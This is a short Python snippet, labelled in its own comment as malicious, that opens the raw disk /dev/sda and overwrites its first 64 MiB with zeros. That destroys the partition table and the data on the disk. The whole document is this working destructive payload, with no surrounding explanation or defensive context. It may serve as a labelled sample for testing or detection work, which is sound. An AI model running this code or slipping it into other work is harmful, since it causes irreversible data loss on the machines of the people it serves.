# Malicious: overwrites the first 64 MiB of the raw disk /dev/sda with zeros; destroys partition table and data.
with open("/dev/sda", "wb") as disk:
    disk.write(b"\x00" * (64 * 1024 * 1024))
